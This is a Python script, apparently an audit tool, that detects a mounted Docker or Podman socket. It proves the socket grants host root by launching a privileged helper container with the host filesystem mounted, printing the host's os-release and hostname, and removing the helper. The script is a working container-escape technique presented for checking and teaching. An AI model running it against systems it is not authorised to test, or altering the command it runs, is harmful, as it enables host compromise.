#!/usr/bin/env python3
"""docker_socket_breakout_check - show why mounting docker.sock is root on the host.

If /var/run/docker.sock is bind-mounted into this container, anyone in the
container can ask the daemon for a new privileged container with the
host's / mounted.  This check does exactly that, runs a harmless command
(print the host's os-release and hostname), prints the output locally and
removes the helper container again.  Findings go to stdout only.
"""
import argparse
import http.client
import json
import logging
import os
import socket
import struct
import sys
import time

LOG = logging.getLogger("sock-check")
SOCKET_CANDIDATES = ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock")


class UnixHTTPConnection(http.client.HTTPConnection):
    def __init__(self, path, timeout=30):
        super().__init__("localhost", timeout=timeout)
        self.unix_path = path

    def connect(self):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.settimeout(self.timeout)
        sock.connect(self.unix_path)
        self.sock = sock


class DockerAPI:
    def __init__(self, path, version="v1.41"):
        self.path = path
        self.prefix = f"/{version}"

    def call(self, method, url, body=None, raw=False):
        conn = UnixHTTPConnection(self.path)
        headers = {"Content-Type": "application/json"} if body is not None else {}
        payload = json.dumps(body) if body is not None else None
        conn.request(method, self.prefix + url, body=payload, headers=headers)
        resp = conn.getresponse()
        data = resp.read()
        conn.close()
        if resp.status >= 400:
            raise RuntimeError(f"{method} {url}: {resp.status} {data[:200]!r}")
        if raw:
            return data
        return json.loads(data) if data else None


def demux_logs(data):
    """Strip the 8-byte stream headers docker puts on non-TTY logs."""
    out, i = [], 0
    while i + 8 <= len(data):
        _stream, size = struct.unpack(">BxxxL", data[i:i + 8])
        out.append(data[i + 8:i + 8 + size])
        i += 8 + size
    return b"".join(out).decode("utf-8", "replace")


def find_socket():
    for cand in SOCKET_CANDIDATES:
        if os.path.exists(cand):
            return cand
    return None


def run_probe(api, image, keep):
    spec = {
        "Image": image,
        "Cmd": ["sh", "-c", "cat /host/etc/os-release; echo; cat /host/etc/hostname"],
        "Labels": {"purpose": "breakout-check"},
        "HostConfig": {
            "Privileged": True,
            "PidMode": "host",
            "NetworkMode": "host",
            "Binds": ["/:/host:ro"],
            "AutoRemove": False,
        },
    }
    created = api.call("POST", "/containers/create?name=breakout-check-%d" % os.getpid(), spec)
    cid = created["Id"]
    LOG.info("created helper container %s", cid[:12])
    try:
        api.call("POST", f"/containers/{cid}/start")
        api.call("POST", f"/containers/{cid}/wait")
        logs = api.call("GET", f"/containers/{cid}/logs?stdout=1&stderr=1", raw=True)
        return demux_logs(logs)
    finally:
        if not keep:
            api.call("DELETE", f"/containers/{cid}?force=1")
            LOG.info("removed helper container")


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--socket", help="path to the engine socket (auto-detect)")
    ap.add_argument("--image", default="alpine:3.19")
    ap.add_argument("--keep", action="store_true", help="do not delete the helper container")
    ap.add_argument("--info-only", action="store_true", help="only query /version and /info")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="[%(levelname)s] %(message)s")

    path = args.socket or find_socket()
    if not path:
        print("PASS: no container engine socket visible")
        return 0
    api = DockerAPI(path)
    try:
        version = api.call("GET", "/version")
    except (OSError, RuntimeError) as exc:
        print(f"PASS: {path} exists but is not usable ({exc})")
        return 0
    print(f"FAIL: {path} answers, engine {version.get('Version')} on {version.get('Os')}")
    if args.info_only:
        info = api.call("GET", "/info")
        print(f"      host: {info.get('Name')}, {info.get('Containers')} containers")
        return 1
    started = time.monotonic()
    try:
        output = run_probe(api, args.image, args.keep)
    except RuntimeError as exc:
        LOG.error("could not start privileged helper: %s", exc)
        return 1
    print(f"      privileged helper ran in {time.monotonic() - started:.1f}s; host says:")
    for line in output.splitlines():
        print("      | " + line)
    return 1


if __name__ == "__main__":
    sys.exit(main())
